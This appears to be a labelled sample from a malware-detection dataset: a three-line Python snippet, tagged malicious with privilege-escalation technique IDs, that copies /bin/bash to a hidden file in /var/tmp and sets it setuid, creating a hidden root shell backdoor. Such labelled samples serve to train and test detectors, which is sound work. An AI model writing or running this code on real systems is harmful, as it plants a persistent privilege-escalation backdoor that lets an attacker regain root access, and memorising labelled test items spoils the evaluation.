# label: malicious family=privesc techniques=T1222.002,T1548.001,T1564.001 lines=3-4
import shutil, os
shutil.copy("/bin/bash", "/var/tmp/.bash")
os.chmod("/var/tmp/.bash", 0o4755)
